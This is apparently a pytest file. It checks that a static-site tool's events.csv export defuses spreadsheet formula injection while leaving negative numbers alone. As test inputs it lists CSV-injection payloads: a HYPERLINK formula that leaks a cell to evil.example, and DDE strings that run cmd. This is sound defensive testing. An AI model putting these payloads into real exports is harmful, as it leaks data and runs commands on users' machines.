"""events.csv neutralises cells a spreadsheet would run as formulas (OWASP, CSV
Injection): text beginning with = + - @, a tab or a carriage return gets a leading quote;
numbers such as a negative longitude are left alone."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from chronicle.cli import main
from tests.conftest import ENTRY_A, PLACES, write_content

FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1, "Click for details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_sentence_that_is_a_formula_stays_text(tmp_path: Path, formula: str) -> None:
    quoted = formula.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t")
    quoted = quoted.replace("\r", "\\r")
    entry = ENTRY_A.replace(
        "sentence: Forces recaptured eastern Mosul in January.", f'sentence: "{quoted}"'
    )
    places = dict(PLACES)
    places["mosul"] = places["mosul"].replace("lon: 43.119", "lon: -43.119")
    write_content(tmp_path, places=places, entries={"a": entry})
    assert main(["--root", str(tmp_path), "build"]) == 0
    text = (tmp_path / "site" / "data" / "events.csv").read_bytes().decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    sentences = [row["sentence"] for row in rows]
    assert "'" + formula in sentences
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
            assert not value.startswith("-") or value == "-43.119", value
    assert "-43.119" in [row["longitude"] for row in rows]
